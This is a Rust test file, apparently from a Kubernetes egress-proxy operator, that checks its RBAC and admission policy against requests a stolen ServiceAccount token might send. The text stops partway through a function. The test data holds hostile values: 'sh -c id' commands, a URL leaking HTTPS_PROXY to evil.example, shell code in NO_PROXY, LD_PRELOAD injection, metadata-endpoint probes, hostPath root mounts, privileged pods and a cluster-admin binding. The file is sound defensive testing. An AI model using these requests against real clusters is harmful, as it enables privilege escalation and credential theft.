//! Tenancy, black box: the shipped RBAC (deploy/), the operator binary running with that
//! ServiceAccount's token, and raw HTTP requests with the same token. What the token can and
//! cannot do is measured here and must match the table in docs/security.md.

use crate::common;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use common::{Env, eventually, hash, wait_reason};
use egress_proxy_operator::noproxy::Dialect;
use k8s_openapi::api::core::v1::{ConfigMap, PodTemplateSpec, Secret};
use kube::api::{Api, Patch, PatchParams};
use kube::client::Body;
use serde_json::{Value, json};

const RBAC: &str = include_str!("../../../deploy/rbac.yaml");
const TENANT: &str = include_str!("../../../deploy/tenant.yaml");
const GRANT: &str = include_str!("../../../deploy/source-grant.yaml");
const ADMISSION: &str = include_str!("../../../deploy/admission.yaml");
const SECURITY: &str = include_str!("../../../docs/security.md");

/// The password of the shared source Secret: it must show up nowhere but in Secrets.
const PASSWORD: &str = "tenancy-sentinel-0x5e";

const CLUSTER: &str = r#"
apiVersion: v1
kind: Namespace
metadata: {name: platform}
---
apiVersion: v1
kind: Secret
metadata: {name: other, namespace: platform}
stringData: {token: platform-internal}
---
apiVersion: v1
kind: ConfigMap
metadata: {name: settings, namespace: platform}
data: {mode: internal}
---
apiVersion: v1
kind: Namespace
metadata: {name: team-b, labels: {egressproxy.io/enabled: "true"}}
---
apiVersion: v1
kind: Namespace
metadata: {name: team-n}
---
apiVersion: v1
kind: Secret
metadata: {name: admin-token, namespace: kube-system}
stringData: {token: cluster-admin}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: admin, namespace: kube-system}
---
apiVersion: apps/v1
kind: DaemonSet
metadata: {name: node-agent, namespace: kube-system}
spec:
  selector: {matchLabels: {app: node-agent}}
  template:
    metadata: {labels: {app: node-agent}}
    spec: {containers: [{name: agent, image: agent:1}]}
"#;

/// One policy `corp` and one Deployment `api` in `ns`, using the shared Secret.
fn team(ns: &str) -> String {
    format!(
        r#"
apiVersion: egressproxy.io/v1alpha1
kind: EgressProxyPolicy
metadata: {{name: corp, namespace: {ns}}}
spec:
  workloadSelector: {{matchLabels: {{egress: proxied}}}}
  proxy:
    credentials: [{{name: main, secretRef: {{name: corp-proxy, namespace: platform}}}}]
    active: main
---
apiVersion: batch/v1
kind: CronJob
metadata: {{name: nightly, namespace: {ns}}}
spec:
  schedule: "0 3 * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: OnFailure
          containers: [{{name: job, image: job:1}}]
---
apiVersion: apps/v1
kind: Deployment
metadata: {{name: api, namespace: {ns}, labels: {{egress: proxied}}}}
spec:
  selector: {{matchLabels: {{app: api}}}}
  template:
    metadata: {{labels: {{app: api}}}}
    spec: {{containers: [{{name: api, image: api:1}}]}}
"#
    )
}

/// team-n never opted in; its own Deployment carries its own config-hash annotation and
/// takes HTTPS_PROXY from its own Secret that happens to have the managed name.
/// In team-a (opted in), a Deployment no policy selects, whose own team set the
/// config-hash annotation and takes HTTPS_PROXY from the Secret that policy `corp` manages:
/// the operator owns none of it (managedFields), so no release may touch it.
const TEAM_A_OWN: &str = r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: teams-own, namespace: team-a}
spec:
  selector: {matchLabels: {app: teams-own}}
  template:
    metadata:
      labels: {app: teams-own}
      annotations: {egressproxy.io/config-hash: teams-own}
    spec:
      containers:
        - name: app
          image: app:1
          env:
            - name: HTTPS_PROXY
              valueFrom: {secretKeyRef: {name: egress-proxy-corp, key: HTTPS_PROXY}}
"#;

const TEAM_N_OWN: &str = r#"
apiVersion: v1
kind: Secret
metadata: {name: egress-proxy-user, namespace: team-a}
stringData: {note: "a user's own Secret with the managed name pattern"}
---
apiVersion: v1
kind: Secret
metadata: {name: egress-proxy-corp, namespace: team-n}
stringData: {HTTPS_PROXY: "http://own-proxy:3128"}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: own, namespace: team-n, labels: {egress: proxied}}
spec:
  selector: {matchLabels: {app: own}}
  template:
    metadata:
      labels: {app: own}
      annotations: {egressproxy.io/config-hash: teams-own}
    spec:
      containers:
        - name: own
          image: own:1
          env:
            - name: HTTPS_PROXY
              valueFrom: {secretKeyRef: {name: egress-proxy-corp, key: HTTPS_PROXY}}
"#;

/// In team-a, two Deployments no policy selects, for the trust rows: `tls` with its own
/// volume and mount (which the operator may never change), and `own-trust` whose own
/// volume is a hostPath named like the operator's trust volume.
const TEAM_A_TLS: &str = r#"
apiVersion: apps/v1
kind: Deployment
metadata: {name: tls, namespace: team-a}
spec:
  selector: {matchLabels: {app: tls}}
  template:
    metadata: {labels: {app: tls}}
    spec:
      volumes: [{name: certs, emptyDir: {}}]
      initContainers: [{name: init, image: init:1}]
      containers:
        - {name: app, image: app:1, volumeMounts: [{name: certs, mountPath: /certs}]}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: own-trust, namespace: team-a}
spec:
  selector: {matchLabels: {app: own-trust}}
  template:
    metadata: {labels: {app: own-trust}}
    spec:
      volumes: [{name: egress-proxy-trust, hostPath: {path: /var/lib/app-certs}}]
      containers: [{name: app, image: app:1}]
"#;

async fn cluster() -> Env {
    let env = Env::new(CLUSTER).await;
    env.sim.apply_yaml(RBAC).expect("rbac");
    env.sim.apply_yaml(ADMISSION).expect("admission policy");
    let grant = GRANT.replace("change-me", PASSWORD);
    env.sim.apply_yaml(&grant).expect("source grant");
    env.sim.apply_yaml(TENANT).expect("team-a opts in");
    for ns in ["team-a", "team-b", "team-n"] {
        env.sim.apply_yaml(&team(ns)).expect("team");
    }
    env.sim.apply_yaml(TEAM_N_OWN).expect("team-n's own");
    env.sim.apply_yaml(TEAM_A_OWN).expect("team-a's own");
    env.sim
        .apply_yaml(TEAM_A_TLS)
        .expect("team-a's trust fixtures");
    env
}

fn token(env: &Env) -> String {
    env.sim
        .service_account_token("egress-proxy-system", "egress-proxy-operator")
}

/// One request with the operator's token; the status code and the reply.
async fn send(
    client: &kube::Client,
    method: &str,
    path: &str,
    body: Option<Value>,
) -> (u16, String) {
    // Patches as kubectl sends them: strategic merge, except for custom resources.
    let content_type = match method {
        "PATCH" if path.contains("egressproxy.io") => "application/merge-patch+json",
        "PATCH" => "application/strategic-merge-patch+json",
        _ => "application/json",
    };
    let body = body.map(|b| b.to_string().into_bytes()).unwrap_or_default();
    let req = http::Request::builder()
        .method(method)
        .uri(path)
        .header("content-type", content_type)
        .body(Body::from(body))
        .expect("request");
    let res = client.send(req).await.expect("send");
    let status = res.status().as_u16();
    let body = http_body_util::BodyExt::collect(res.into_body())
        .await
        .expect("body");
    (
        status,
        String::from_utf8_lossy(&body.to_bytes()).into_owned(),
    )
}

/// A probe Job as the operator's builder writes it (`spec.verification`, see
/// `controller/plan/verify.rs`), named with `suffix`, changed by `edit` (on the whole Job):
/// each is refused for what `edit` did, not for its name.
fn probe_job(suffix: &str, edit: impl FnOnce(&mut Value)) -> Value {
    let labels = json!({"app.kubernetes.io/managed-by": "egress-proxy-operator",
        "egressproxy.io/policy": "corp"});
    let secret = |key: &str| json!({"secretKeyRef": {"name": "egress-proxy-corp", "key": key}});
    let mut env = Vec::new();
    for name in ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy"] {
        let key = format!("slot.main.{}", name.to_uppercase());
        env.push(json!({"name": name, "valueFrom": secret(&key)}));
    }
    for name in ["NO_PROXY", "no_proxy"] {
        env.push(json!({"name": name, "value": ".svc,.cluster.local,10.0.0.0/8,[fd00::1]"}));
    }
    env.push(
        json!({"name": "EGRESS_PROXY_PROBE_CA", "valueFrom": {"configMapKeyRef":
        {"name": "kube-root-ca.crt", "key": "ca.crt", "optional": true}}}),
    );
    let mut job = json!({
        "metadata": {"name": format!("egress-proxy-verify-{suffix}"), "labels": labels,
            "annotations": {"egressproxy.io/verification-key": "0123456789abcdef"},
            "ownerReferences": [{"apiVersion": "egressproxy.io/v1alpha1",
                "kind": "EgressProxyPolicy", "name": "corp",
                "uid": "00000000-0000-0000-0000-000000000001",
                "controller": true, "blockOwnerDeletion": true}]},
        "spec": {"backoffLimit": 0, "activeDeadlineSeconds": 300, "ttlSecondsAfterFinished": 3600,
            "template": {"metadata": {"labels": labels}, "spec": {
                "restartPolicy": "Never",
                "automountServiceAccountToken": false,
                "enableServiceLinks": false,
                "securityContext": {"runAsNonRoot": true, "runAsUser": 65532,
                    "runAsGroup": 65532, "seccompProfile": {"type": "RuntimeDefault"}},
                "containers": [{"name": "probe", "image": "egress-proxy-operator:0.1.0",
                    "args": ["probe", "--dialect", "portable",
                        "--endpoint", "https://kubernetes.default.svc.cluster.local/=Direct",
                        "--endpoint", "https://example.org/=Proxied",
                        "--termination-log", "/dev/termination-log"],
                    "env": env,
                    "resources": {"requests": {"cpu": "10m", "memory": "16Mi"},
                        "limits": {"cpu": "200m", "memory": "64Mi"}},
                    "securityContext": {"allowPrivilegeEscalation": false,
                        "readOnlyRootFilesystem": true, "capabilities": {"drop": ["ALL"]}},
                    "terminationMessagePolicy": "FallbackToLogsOnError"}]}}},
    });
    edit(&mut job);
    job
}

/// The probe Job's Pod spec, and its one container.
fn pod(job: &mut Value) -> &mut Value {
    &mut job["spec"]["template"]["spec"]
}

fn probe_container(job: &mut Value) -> &mut Value {
    &mut pod(job)["containers"][0]
}

type Edit = fn(&mut Value);

/// A probe Job changed in one field, each refused by the admission policy: the allow-list's
/// neighbours an attacker with the token would try (docs/security.md, one row each).
const PROBE_JOB_REFUSALS: &[(&str, Edit)] = &[
    (
        "run another subcommand in a probe Job (demo --listen)",
        |j| probe_container(j)["args"] = json!(["demo", "--listen", "0.0.0.0:8080"]),
    ),
    ("add a flag the probe Job does not use (--ca-file)", |j| {
        let args = probe_container(j)["args"].as_array_mut().unwrap();
        args.extend([json!("--ca-file"), json!("/var/run/secrets/x")])
    }),
    ("run a command in a probe Job", |j| {
        probe_container(j)["command"] = json!(["sh", "-c", "id"])
    }),
    (
        "expand $(HTTPS_PROXY) into a probe Job's endpoint URL",
        |j| probe_container(j)["args"][6] = json!("https://evil.example/$(HTTPS_PROXY)=Proxied"),
    ),
    ("give a probe Job's Pod another Service's labels", |j| {
        j["spec"]["template"]["metadata"]["labels"]["app"] = json!("api")
    }),
    (
        "send an httpGet liveness probe from the node to 169.254.169.254",
        |j| {
            probe_container(j)["livenessProbe"] = json!({"httpGet": {"host": "169.254.169.254",
            "path": "/latest/meta-data/", "port": 80,
            "httpHeaders": [{"name": "Metadata-Flavor", "value": "Google"}]}})
        },
    ),
    ("add a postStart lifecycle hook to a probe Job", |j| {
        probe_container(j)["lifecycle"] = json!({"postStart": {"httpGet":
            {"host": "169.254.169.254", "path": "/", "port": 80}}})
    }),
    ("add an exec readiness probe to a probe Job", |j| {
        probe_container(j)["readinessProbe"] = json!({"exec": {"command": ["sh", "-c", "id"]}})
    }),
    ("run a probe Job as root", |j| {
        pod(j)["securityContext"]["runAsUser"] = json!(0)
    }),
    ("run a probe Job's container as root", |j| {
        probe_container(j)["securityContext"]["runAsUser"] = json!(0)
    }),
    ("add NET_ADMIN to a probe Job's capabilities", |j| {
        probe_container(j)["securityContext"]["capabilities"]["add"] = json!(["NET_ADMIN"])
    }),
    ("run a probe Job with seccomp Unconfined", |j| {
        pod(j)["securityContext"]["seccompProfile"] = json!({"type": "Unconfined"})
    }),
    ("run a probe Job with AppArmor Unconfined", |j| {
        pod(j)["securityContext"]["appArmorProfile"] = json!({"type": "Unconfined"})
    }),
    ("allow privilege escalation in a probe Job", |j| {
        probe_container(j)["securityContext"]["allowPrivilegeEscalation"] = json!(true)
    }),
    ("run a privileged probe Job", |j| {
        probe_container(j)["securityContext"]["privileged"] = json!(true)
    }),
    ("open a hostPort in a probe Job", |j| {
        probe_container(j)["ports"] = json!([{"containerPort": 8080, "hostPort": 80}])
    }),
    ("use the host network in a probe Job", |j| {
        pod(j)["hostNetwork"] = json!(true)
    }),
    ("mount a hostPath volume in a probe Job", |j| {
        pod(j)["volumes"] = json!([{"name": "root", "hostPath": {"path": "/"}}])
    }),
    ("add an init container to a probe Job", |j| {
        pod(j)["initContainers"] = json!([{"name": "i", "image": "egress-proxy-operator:0.1.0"}])
    }),
    ("pin a probe Job to a node (nodeName)", |j| {
        pod(j)["nodeName"] = json!("control-plane")
    }),
    ("tolerate every taint in a probe Job", |j| {
        pod(j)["tolerations"] = json!([{"operator": "Exists"}])
    }),
    ("give a probe Job a priority class", |j| {
        pod(j)["priorityClassName"] = json!("system-node-critical")
    }),
    ("add hostAliases to a probe Job", |j| {
        pod(j)["hostAliases"] = json!([{"ip": "10.0.0.9", "hostnames": ["proxy.corp"]}])
    }),
    ("set a probe Job's dnsConfig", |j| {
        pod(j)["dnsPolicy"] = json!("None");
        pod(j)["dnsConfig"] = json!({"nameservers": ["10.0.0.9"]})
    }),
    ("run a probe Job 1000 times, 20 at once", |j| {
        j["spec"]["parallelism"] = json!(20);
        j["spec"]["completions"] = json!(1000)
    }),
    ("run a probe Job without a TTL", |j| {
        j["spec"]
            .as_object_mut()
            .unwrap()
            .remove("ttlSecondsAfterFinished");
    }),
    ("run a probe Job without a deadline", |j| {
        j["spec"]
            .as_object_mut()
            .unwrap()
            .remove("activeDeadlineSeconds");
    }),
    ("raise a probe Job's memory limit to 8Gi", |j| {
        probe_container(j)["resources"]["limits"]["memory"] = json!("8Gi")
    }),
    ("set a probe Job's NO_PROXY to shell code", |j| {
        probe_container(j)["env"][4]["value"] = json!("$(touch$IFS'PWNED')")
    }),
    ("set a probe Job's HTTPS_PROXY to a value", |j| {
        probe_container(j)["env"][2] = json!({"name": "HTTPS_PROXY", "value": "http://evil:3128"})
    }),
    ("add another variable to a probe Job (LD_PRELOAD)", |j| {
        let env = probe_container(j)["env"].as_array_mut().unwrap();
        env.push(json!({"name": "LD_PRELOAD", "value": "/tmp/x.so"}))
    }),
    ("keep a probe Job from going away (a finalizer)", |j| {
        j["metadata"]["finalizers"] = json!(["example.com/keep"])
    }),
    ("run a probe Job that no policy owns", |j| {
        j["metadata"]
            .as_object_mut()
            .unwrap()
            .remove("ownerReferences");
    }),
];

type Attempt = (
    &'static str,
    &'static str,
    &'static str,
    Option<Value>,
    bool,
);

/// The refusals above as rows of the table, each Job under its own name.
fn probe_job_refusals() -> Vec<Attempt> {
    PROBE_JOB_REFUSALS
        .iter()
        .enumerate()
        .map(|(n, (what, edit))| {
            let job = probe_job(&format!("r{n}"), edit);
            (
                *what,
                "POST",
                "/apis/batch/v1/namespaces/team-a/jobs",
                Some(job),
                false,
            )
        })
        .collect()
}

/// A fresh self-signed CA certificate (PEM) named `cn`, and its private key (PEM).
fn test_ca(cn: &str) -> (String, String) {
    let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).expect("params");
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, cn);
    params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let key = rcgen::KeyPair::generate().expect("key");
    let cert = params.self_signed(&key).expect("certificate");
    (cert.pem(), key.serialize_pem())
}

const TRUST_DIR: &str = "/etc/egress-proxy/trust";
const TRUST_VARS: [&str; 6] = [
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "CURL_CA_BUNDLE",
    "REQUESTS_CA_BUNDLE",
    "NODE_EXTRA_CA_CERTS",
    "WGETRC",
];

/// The trust volume as the operator writes it, of the ConfigMap `name`.
fn trust_volume(name: &str) -> Value {
    let items: Vec<Value> = ["ca-bundle.crt", "truststore.p12", "wgetrc"]
        .iter()
        .map(|k| json!({"key": k, "path": k}))
        .collect();
    json!({"name": "egress-proxy-trust", "configMap": {"name": name, "items": items}})
}

/// A mount of the trust volume at `path`.
fn trust_mount(path: &str, read_only: bool) -> Value {
    json!({"name": "egress-proxy-trust", "mountPath": path, "readOnly": read_only})
}

/// A trust variable by reference to `key` of the ConfigMap `name`.
fn trust_ref(var: &str, name: &str, key: &str) -> Value {
    json!({"name": var, "valueFrom": {"configMapKeyRef": {"name": name, "key": key}}})
}

/// A strategic merge patch of a pod template: `volume` (if any) and the container `app`.
fn tls_patch(volume: Option<&Value>, app: Value) -> Value {
    let mut spec = json!({"containers": [app]});
    if let Some(v) = volume {
        spec["volumes"] = json!([v]);
    }
    json!({"spec": {"template": {"spec": spec}}})
}

/// A PEM CERTIFICATE block of the shape the probe Job carries (the admission policy checks
/// the framing, not the certificate).
const PROBE_PEM: &str =
    "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIU\n-----END CERTIFICATE-----\n";

/// The probe Job's trust, as the builder writes it with `spec.trust`: the CA sources under
/// test as a value, and whether the shipped roots are kept.
fn with_trust(j: &mut Value) {
    let c = probe_container(j);
    let env = c["env"].as_array_mut().expect("env");
    // Before the cluster CA, as the builder orders them.
    let at = env.len() - 1;
    env.insert(
        at,
        json!({"name": "EGRESS_PROXY_PROBE_TRUST_ROOTS", "value": "keep"}),
    );
    env.insert(
        at,
        json!({"name": "EGRESS_PROXY_PROBE_TRUST", "value": PROBE_PEM}),
    );
}

/// A row of the table with the admission policy's message its refusal must give (`None`
/// for allowed rows), so that a row refused for another reason cannot hide a gap.
type Checked = (Attempt, Option<&'static str>);

/// What a stolen token can do with `spec.trust`'s volume, mounts, variables and managed
/// ConfigMap keys: the operator's own writes (allowed) and their neighbours (refused).
fn trust_attempts() -> Vec<Checked> {
    const TLS: &str = "/apis/apps/v1/namespaces/team-a/deployments/tls";
    const CMS: &str = "/api/v1/namespaces/team-a/configmaps";
    const JOBS: &str = "/apis/batch/v1/namespaces/team-a/jobs";
    const CRON: &str = "/apis/batch/v1/namespaces/team-a/cronjobs/nightly";
    const VOLUME: &str = "is a configMap volume of an egress-proxy-*";
    const CONFIG_MAP: &str = "into a ConfigMap only NO_PROXY characters";
    const VARIABLE: &str = "only by reference to the key of the same name";
    let managed = "egress-proxy-corp";
    let ours = trust_volume(managed);
    let mount = trust_mount(TRUST_DIR, true);
    let mounted =
        |m: Value, env: Vec<Value>| json!({"name": "app", "volumeMounts": [m], "env": env});
    let ssl_ref = trust_ref("SSL_CERT_FILE", managed, "SSL_CERT_FILE");
    let all_refs: Vec<Value> = TRUST_VARS
        .iter()
        .map(|v| trust_ref(v, managed, v))
        .collect();
    let mut inject = tls_patch(Some(&ours), mounted(mount.clone(), all_refs.clone()));
    inject["spec"]["template"]["spec"]["initContainers"] =
        json!([{"name": "init", "volumeMounts": [mount.clone()], "env": all_refs}]);
    inject["spec"]["template"]["metadata"] =
        json!({"annotations": {"egressproxy.io/trust-bundle": "0123456789abcdef"}});
    let host = json!({"name": "egress-proxy-trust", "hostPath": {"path": "/"}});
    let other_cm = trust_volume("team-settings");
    let deletes: Vec<Value> = TRUST_VARS
        .iter()
        .map(|v| json!({"name": v, "$patch": "delete"}))
        .collect();
    let unmount = json!([{"mountPath": TRUST_DIR, "$patch": "delete"}]);
    let release = json!({"spec": {"template": {
        "metadata": {"annotations": {"egressproxy.io/trust-bundle": null}},
        "spec": {"volumes": [{"name": "egress-proxy-trust", "$patch": "delete"}],
            "containers": [{"name": "app", "volumeMounts": unmount, "env": deletes}],
            "initContainers": [{"name": "init", "volumeMounts": unmount, "env": deletes}]}}}});
    let proxy = "-Dhttp.proxyHost=p -Dhttp.proxyPort=3128 -Dhttps.proxyHost=p \
        -Dhttps.proxyPort=3128 -Dhttp.nonProxyHosts=*.svc";
    let java = |store: &str| {
        let value = format!(
            "-Degressproxy.managed={managed} {proxy} -Djavax.net.ssl.trustStore={store} \
             -Djavax.net.ssl.trustStoreType=PKCS12"
        );
        tls_patch(
            None,
            json!({"name": "app", "env": [{"name": "JAVA_TOOL_OPTIONS", "value": value}]}),
        )
    };
    let (ca, key) = test_ca("Tenancy Test CA");
    let config_map = |data: Value, binary: Value| {
        json!({"metadata": {"generateName": "egress-proxy-t-", "labels":
            {"app.kubernetes.io/managed-by": "egress-proxy-operator"}},
            "data": data, "binaryData": binary})
    };
    let bundle = config_map(
        json!({"NO_PROXY": ".svc,10.0.0.0/8", "ca-bundle.crt": ca,
            "wgetrc": "ca_certificate = /etc/egress-proxy/trust/ca-bundle.crt\n",
            "SSL_CERT_FILE": "/etc/egress-proxy/trust/ca-bundle.crt",
            "SSL_CERT_DIR": "/etc/egress-proxy/trust",
            "CURL_CA_BUNDLE": "/etc/egress-proxy/trust/ca-bundle.crt",
            "REQUESTS_CA_BUNDLE": "/etc/egress-proxy/trust/ca-bundle.crt",
            "NODE_EXTRA_CA_CERTS": "/etc/egress-proxy/trust/ca-bundle.crt",
            "WGETRC": "/etc/egress-proxy/trust/wgetrc"}),
        json!({"truststore.p12": "MIIBAAIBAzA="}),
    );
    let with_key = config_map(json!({"ca-bundle.crt": format!("{ca}{key}")}), json!({}));
    let wgetrc = config_map(
        json!({"wgetrc": "ca_certificate = /etc/egress-proxy/trust/ca-bundle.crt\n\
            check_certificate = off\n"}),
        json!({}),
    );
    let elsewhere = config_map(json!({"SSL_CERT_FILE": "/tmp/ca.pem"}), json!({}));
    let binary = config_map(json!({}), json!({"ld.so.preload": "L3RtcC94LnNv"}));
    let cron = json!({"spec": {"jobTemplate": {"spec": {"template": {
        "metadata": {"annotations": {"egressproxy.io/trust-bundle": "0123456789abcdef"}},
        "spec": {"volumes": [ours.clone()], "containers": [{"name": "job",
            "volumeMounts": [mount.clone()], "env": [ssl_ref.clone()]}]}}}}}});
    let cron_host = json!({"spec": {"jobTemplate": {"spec": {"template": {"spec": {
        "volumes": [host.clone()],
        "containers": [{"name": "job", "volumeMounts": [mount.clone()]}]}}}}}});
    let probe = |suffix: &str, edit: Edit| {
        probe_job(suffix, |j| {
            with_trust(j);
            edit(j)
        })
    };
    let row = |what, method, path, body: Value, can, because| {
        ((what, method, path, Some(body), can), because)
    };
    let read = |what, path| ((what, "GET", path, None, true), None);
    let refused = |what, path| ((what, "GET", path, None, false), None);
    vec![
        read(
            "read the CA ConfigMap its owner granted (spec.trust)",
            "/api/v1/namespaces/platform/configmaps/corp-ca",
        ),
        read(
            "list the granted CA ConfigMap by name, as its watch does",
            "/api/v1/namespaces/platform/configmaps?fieldSelector=metadata.name%3Dcorp-ca",
        ),
        refused(
            "read another ConfigMap of the source namespace",
            "/api/v1/namespaces/platform/configmaps/settings",
        ),
        read(
            "list the ConfigMaps of an opted-in namespace (same-namespace CA sources)",
            "/api/v1/namespaces/team-a/configmaps",
        ),
        row(
            "add a hostPath volume named egress-proxy-trust to a workload",
            "PATCH",
            TLS,
            tls_patch(Some(&host), mounted(mount.clone(), vec![])),
            false,
            Some(VOLUME),
        ),
        row(
            "mount another ConfigMap as a workload's trust volume",
            "PATCH",
            TLS,
            tls_patch(Some(&other_cm), mounted(mount.clone(), vec![])),
            false,
            Some(VOLUME),
        ),
        row(
            "mount the trust volume over /etc/ssl",
            "PATCH",
            TLS,
            tls_patch(Some(&ours), mounted(trust_mount("/etc/ssl", true), vec![])),
            false,
            Some("other volumeMounts or other variables"),
        ),
        row(
            "mount the trust volume writable (readOnly false) at /etc/egress-proxy/trust",
            "PATCH",
            TLS,
            tls_patch(Some(&ours), mounted(trust_mount(TRUST_DIR, false), vec![])),
            false,
            Some("only read-only"),
        ),
        row(
            "mount the trust volume over the ServiceAccount token's path",
            "PATCH",
            TLS,
            tls_patch(
                Some(&ours),
                mounted(
                    trust_mount("/var/run/secrets/kubernetes.io/serviceaccount", true),
                    vec![],
                ),
            ),
            false,
            Some("other volumeMounts or other variables"),
        ),
        row(
            "mount a workload's own hostPath volume named egress-proxy-trust",
            "PATCH",
            "/apis/apps/v1/namespaces/team-a/deployments/own-trust",
            tls_patch(None, mounted(mount.clone(), vec![])),
            false,
            Some("mount a workload's own volume"),
        ),
        row(
            "add another hostPath volume to a workload",
            "PATCH",
            TLS,
            tls_patch(
                Some(&json!({"name": "host", "hostPath": {"path": "/"}})),
                json!({"name": "app"}),
            ),
            false,
            Some("volumes other than"),
        ),
        row(
            "remove a workload's own volume mount",
            "PATCH",
            TLS,
            tls_patch(
                None,
                json!({"name": "app", "volumeMounts": [{"mountPath": "/certs", "$patch": "delete"}]}),
            ),
            false,
            Some("other volumeMounts or other variables"),
        ),
        row(
            "set SSL_CERT_FILE on a workload to a value",
            "PATCH",
            TLS,
            tls_patch(
                None,
                json!({"name": "app", "env": [{"name": "SSL_CERT_FILE", "value": "/tmp/ca.pem"}]}),
            ),
            false,
            Some(VARIABLE),
        ),
        row(
            "set SSL_CERT_FILE on a workload from another ConfigMap",
            "PATCH",
            TLS,
            tls_patch(
                None,
                json!({"name": "app", "env": [trust_ref("SSL_CERT_FILE", "team-settings", "SSL_CERT_FILE")]}),
            ),
            false,
            Some(VARIABLE),
        ),
        row(
            "set SSL_CERT_FILE on a workload from another key of a managed ConfigMap",
            "PATCH",
            TLS,
            tls_patch(
                None,
                json!({"name": "app", "env": [trust_ref("SSL_CERT_FILE", managed, "NO_PROXY")]}),
            ),
            false,
            Some(VARIABLE),
        ),
        row(
            "name another trust store in JAVA_TOOL_OPTIONS",
            "PATCH",
            TLS,
            java("/tmp/evil.p12"),
            false,
            Some("at most one -Degressproxy.managed= part"),
        ),
        row(
            "mount the trust bundle read-only into a workload from a managed ConfigMap (spec.trust)",
            "PATCH",
            TLS,
            inject,
            true,
            None,
        ),
        row(
            "append the trust store to its part of JAVA_TOOL_OPTIONS (dialect java, spec.trust)",
            "PATCH",
            TLS,
            java("/etc/egress-proxy/trust/truststore.p12"),
            true,
            None,
        ),
        row(
            "take the trust volume, mounts, variables and annotation out of a workload",
            "PATCH",
            TLS,
            release,
            true,
            None,
        ),
        row(
            "mount the trust bundle into a CronJob's job template (spec.trust)",
            "PATCH",
            CRON,
            cron,
            true,
            None,
        ),
        row(
            "add a hostPath volume named egress-proxy-trust to a CronJob's job template",
            "PATCH",
            CRON,
            cron_host,
            false,
            Some(VOLUME),
        ),
        row(
            "write a trust bundle, its wgetrc, paths and truststore into a managed ConfigMap",
            "POST",
            CMS,
            bundle,
            true,
            None,
        ),
        row(
            "put a PRIVATE KEY block into a managed ConfigMap's ca-bundle.crt",
            "POST",
            CMS,
            with_key,
            false,
            Some(CONFIG_MAP),
        ),
        row(
            "add check_certificate = off to a managed ConfigMap's wgetrc",
            "POST",
            CMS,
            wgetrc,
            false,
            Some(CONFIG_MAP),
        ),
        row(
            "point a managed ConfigMap's SSL_CERT_FILE at another file",
            "POST",
            CMS,
            elsewhere,
            false,
            Some(CONFIG_MAP),
        ),
        row(
            "write binaryData under another key than truststore.p12",
            "POST",
            CMS,
            binary,
            false,
            Some("truststore.p12 into a ConfigMap's binaryData"),
        ),
        row(
            "run a probe Job with the policy's trust bundle (spec.trust)",
            "POST",
            JOBS,
            probe("t0", |_| {}),
            true,
            None,
        ),
        row(
            "mount a hostPath volume into a probe Job with trust",
            "POST",
            JOBS,
            probe(
                "t1",
                |j| {
                    pod(j)["volumes"] =
                        json!([{"name": "egress-proxy-trust", "hostPath": {"path": "/"}}])
                },
            ),
            false,
            Some("no volumes"),
        ),
        row(
            "mount a managed ConfigMap into a probe Job with trust",
            "POST",
            JOBS,
            probe("t2", |j| {
                pod(j)["volumes"] = json!([trust_volume("egress-proxy-corp")]);
                probe_container(j)["volumeMounts"] = json!([trust_mount(TRUST_DIR, true)]);
            }),
            false,
            Some("no volumes"),
        ),
        row(
            "put a private key into a probe Job's trust variable",
            "POST",
            JOBS,
            probe("t3", |j| {
                let env = probe_container(j)["env"].as_array_mut().unwrap();
                for e in env
                    .iter_mut()
                    .filter(|e| e["name"] == "EGRESS_PROXY_PROBE_TRUST")
                {
                    e["value"] = json!(format!(
                        "{PROBE_PEM}-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n"
                    ))
                }
            }),
            false,
            Some("as PEM CERTIFICATE blocks"),
        ),
        row(
            "take a probe Job's trust variable from a Secret",
            "POST",
            JOBS,
            probe("t4", |j| {
                let env = probe_container(j)["env"].as_array_mut().unwrap();
                for e in env
                    .iter_mut()
                    .filter(|e| e["name"] == "EGRESS_PROXY_PROBE_TRUST")
                {
                    *e = json!({"name": "EGRESS_PROXY_PROBE_TRUST", "valueFrom":
                        {"secretKeyRef": {"name": "team-settings", "key": "ca"}}});
                }
            }),
            false,
            Some("as PEM CERTIFICATE blocks"),
        ),
        row(
            "set a probe Job's trust roots to something else",
            "POST",
            JOBS,
            probe("t5", |j| {
                let env = probe_container(j)["env"].as_array_mut().unwrap();
                for e in env
                    .iter_mut()
                    .filter(|e| e["name"] == "EGRESS_PROXY_PROBE_TRUST_ROOTS")
                {
                    e["value"] = json!("/etc/ssl/certs")
                }
            }),
            false,
            Some("as PEM CERTIFICATE blocks"),
        ),
    ]
}

/// What a stolen token of the shipped ServiceAccount can do: (what, method, path, body,
/// status code, can it).
fn attempts() -> Vec<Attempt> {
    let token_secret = json!({"metadata": {"name": "minted", "annotations":
        {"kubernetes.io/service-account.name": "admin"}},
        "type": "kubernetes.io/service-account-token"});
    let crb = json!({"metadata": {"name": "own-cluster"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "egress-proxy-operator", "namespace": "egress-proxy-system"}]});
    let rb = json!({"metadata": {"name": "opt-in"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "egress-proxy-operator-tenant"},
        "subjects": [{"kind": "ServiceAccount", "name": "egress-proxy-operator", "namespace": "egress-proxy-system"}]});
    let privileged = json!({"spec": {"template": {"spec": {"hostPID": true, "containers":
        [{"name": "agent", "image": "evil:1", "securityContext": {"privileged": true}}]}}}});
    let proxy_env = json!({"spec": {"template": {"spec": {"containers":
        [{"name": "api", "env": [{"name": "HTTPS_PROXY", "value": "http://evil:3128"}]}]}}}});
